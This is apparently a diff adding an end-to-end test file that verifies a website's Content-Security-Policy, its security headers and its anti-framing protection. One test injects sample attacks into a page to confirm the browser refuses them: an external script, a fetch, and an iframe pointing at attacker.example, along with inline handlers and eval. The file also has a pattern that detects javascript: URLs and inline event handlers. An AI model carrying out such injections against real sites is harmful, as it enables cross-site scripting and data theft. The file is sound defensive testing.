@@ -1,0 +1,122 @@
+import { createHash } from 'node:crypto';
+import { readdirSync, readFileSync } from 'node:fs';
+import { href } from '../../../app/href';
+import { addresses } from '../support/addresses';
+import { expect, test } from '../support/fixtures';
+
+const site = 'build/client';
+const files = readdirSync(site, { recursive: true, withFileTypes: true })
+  .filter((entry) => entry.isFile())
+  .map((entry) => `${entry.parentPath}/${entry.name}`.slice(site.length));
+const pages = files.filter((file) => file.endsWith('.html'));
+
+for (const file of pages) {
+  test(`${file} runs only its own scripts and reaches only us and the map`, () => {
+    const html = readFileSync(`${site}${file}`, 'utf8');
+    const policies = [...html.matchAll(/<meta http-equiv="Content-Security-Policy" content="(.*?)"/g)];
+    expect(policies).toHaveLength(1);
+    const policy = sourcesOf(policies[0]?.[1] ?? '');
+    const allowed = (directive: string) => policy.get(directive) ?? policy.get('default-src') ?? ['*'];
+
+    const ownOrHash = /^'(self|none|sha256-[A-Za-z0-9+/]{43}=)'$/;
+    for (const directive of ['script-src', 'style-src', 'worker-src', 'manifest-src', 'font-src', 'media-src'])
+      for (const source of allowed(directive)) expect(source, directive).toMatch(ownOrHash);
+    for (const source of allowed('img-src')) expect(source).toMatch(/^'self'$|^data:$/);
+    // Browsers ask for /favicon.ico by themselves, and Firefox then reports what forbids it.
+    expect(allowed('img-src')).toContain("'self'");
+    expect([["'none'"], ['https://www.openstreetmap.org']]).toContainEqual(allowed('frame-src'));
+    // Another origin may stand here only as the build was told. Neither falls back to `default-src` where it is missing.
+    const mail = process.env.VITE_MAIL_ORIGIN ? [process.env.VITE_MAIL_ORIGIN] : [];
+    for (const directive of ['connect-src', 'form-action'])
+      expect([["'none'"], ["'self'", ...mail]]).toContainEqual(
+        directive === 'form-action' ? policy.get(directive) : allowed(directive),
+      );
+    expect(policy.get('base-uri')).toEqual(["'none'"]);
+    expect(allowed('object-src')).toEqual(["'none'"]);
+
+    // It holds only for what stands below it.
+    expect(html.search(/<(script|style|link|img)\b/), 'where the first loads').not.toBeLessThan(
+      policies[0]?.index ?? 0,
+    );
+    for (const [, attributes = '', code = ''] of html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)) {
+      // What search engines read is no script, and no policy is asked for it.
+      if (attributes.includes('application/ld+json')) continue;
+      expect(attributes, 'a script from elsewhere').not.toContain('src=');
+      expect(allowed('script-src')).toContain(`'sha256-${createHash('sha256').update(code).digest('base64')}'`);
+    }
+    expect(html).not.toMatch(/<[^>]+\s(on[a-z]+="|(href|src|action)="javascript:)/i);
+  });
+}
+
+test('the icon that browsers ask for by themselves is there', async ({ request }) => {
+  const icon = await request.get('/favicon.ico', { maxRedirects: 0 });
+  expect([icon.status(), icon.headers()['content-type']]).toEqual([200, expect.stringMatching(/^image\//)]);
+});
+
+test('the server answers with the headers of the policy, whatever is asked for', async ({ request }) => {
+  const script = files.find((file) => /^\/assets\/.*\.js$/.test(file)) ?? '';
+  for (const path of [...addresses.map((address) => address.path), '/icon.svg', script]) {
+    const headers = (await request.get(path, { maxRedirects: 0 })).headers();
+    expect(headers, path).toMatchObject({
+      'content-security-policy': "frame-ancestors 'none'",
+      'x-content-type-options': 'nosniff',
+      'referrer-policy': 'strict-origin-when-cross-origin',
+      'permissions-policy': 'camera=(), microphone=(), geolocation=(), payment=(), usb=(), browsing-topics=()',
+      'cross-origin-opener-policy': 'same-origin',
+    });
+    expect(headers, path).not.toHaveProperty('strict-transport-security');
+  }
+  const overTls = await request.get('/', { headers: { 'X-Forwarded-Proto': 'https' } });
+  expect(overTls.headers()['strict-transport-security']).toBe('max-age=31536000');
+});
+
+test('what an attacker puts into a page is refused', async ({ page, visit, expectProblem }) => {
+  expectProblem(/Content Security Policy|attacker\.example/);
+  await visit('/');
+  const refused = await page.evaluateHandle(() => {
+    const refused: string[] = [];
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
+      refused.push(`${effectiveDirective} ${blockedURI}`),
+    );
+    const put = (tag: string, properties: object) =>
+      document.body.append(Object.assign(document.createElement(tag), properties));
+    put('script', { textContent: 'document.title = "attacked"' });
+    put('script', { src: 'https://attacker.example/x.js' });
+    put('p', { innerHTML: '<b onclick="document.title = `attacked`">' });
+    document.querySelector<HTMLElement>('b[onclick]')?.click();
+    put('iframe', { src: 'https://attacker.example/' });
+    fetch('https://attacker.example/').catch(() => undefined);
+    // In a task of the page’s own: what a test evaluates itself may be exempt from the policy.
+    setTimeout(() => void eval('document.title = "attacked"'));
+    return refused;
+  });
+  await expect
+    .poll(async () => (await refused.jsonValue()).sort())
+    .toEqual([
+      'connect-src https://attacker.example/',
+      'frame-src https://attacker.example',
+      'script-src eval',
+      'script-src-attr inline',
+      'script-src-elem https://attacker.example/x.js',
+      'script-src-elem inline',
+    ]);
+  await expect(page).not.toHaveTitle('attacked');
+});
+
+test('no page can show one of ours inside itself, not even one at our own address', async ({ page, expectProblem }) => {
+  expectProblem(/frame-ancestors|ERR_BLOCKED_BY_RESPONSE/);
+  const body = `<iframe src="${href('/')}" title="framed"></iframe>`;
+  await page.route(href('/framing'), (route) => route.fulfill({ contentType: 'text/html', body }));
+  await page.goto('/framing');
+  await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
+});
+
+/** A policy as directive → sources. */
+function sourcesOf(policy: string): Map<string, string[]> {
+  return new Map(
+    policy.split(';').map((directive): [string, string[]] => {
+      const [name = '', ...sources] = directive.trim().split(/\s+/);
+      return [name, sources];
+    }),
+  );
+}
